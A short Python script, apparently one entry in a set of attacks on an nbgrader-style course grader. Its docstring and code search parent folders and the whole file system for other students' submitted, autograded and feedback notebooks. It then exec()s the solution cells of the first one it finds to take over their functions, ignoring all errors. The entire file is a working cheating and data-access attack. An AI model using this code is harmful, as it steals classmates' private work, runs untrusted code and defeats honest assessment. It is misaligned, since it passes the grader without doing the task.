"""Finds classmates' notebooks (submitted/, autograded/, feedback/) near the working folder and anywhere
on the file system, and runs the first one's solution cells to take its functions.
attacks: other students' submissions and feedback
"""
import glob
import json

found = []
for pattern in ('../../*/*/*.ipynb', '../../../submitted/*/*/*.ipynb', '/**/submitted/*/*/*.ipynb',
                '/**/autograded/*/*/*.ipynb', '/**/feedback/*/*/*.html'):
    try:
        found += glob.glob(pattern, recursive=True)[:50]
    except Exception:
        pass
for path in found:
    if not path.endswith('.ipynb'):
        continue
    try:
        nb = json.load(open(path))
        for cell in nb['cells']:
            if cell.get('metadata', {}).get('nbgrader', {}).get('solution') and cell['cell_type'] == 'code':
                exec(''.join(cell['source']), globals())
        break
    except Exception:
        continue
